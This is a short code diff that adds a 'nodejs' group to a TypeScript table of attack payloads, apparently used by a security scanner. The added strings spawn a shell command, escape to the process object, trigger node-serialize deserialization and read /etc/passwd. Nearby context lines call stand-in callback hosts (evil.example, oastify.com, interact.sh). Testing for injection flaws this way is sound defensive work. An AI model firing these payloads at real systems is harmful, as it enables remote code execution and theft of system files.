@@ -126,6 +126,12 @@ export const FAMILY_ATTACKS: Readonly<Record<string, readonly string[]>> = {
     '<!--#echo var="DATE_LOCAL"-->',
     '<esi:include src="http://evil.example/"/>',
   ],
+  nodejs: [
+    "require('child_process').execSync('id')",
+    "this.constructor.constructor('return process')().exit()",
+    '{"rce":"_$$ND_FUNC$$_function(){}()"}',
+    'process.mainModule.require("fs").readFileSync("/etc/passwd")',
+  ],
   'oob-callback': [
     '; nslookup abc123.oastify.com',
     'http://x1y2z3.interact.sh/',
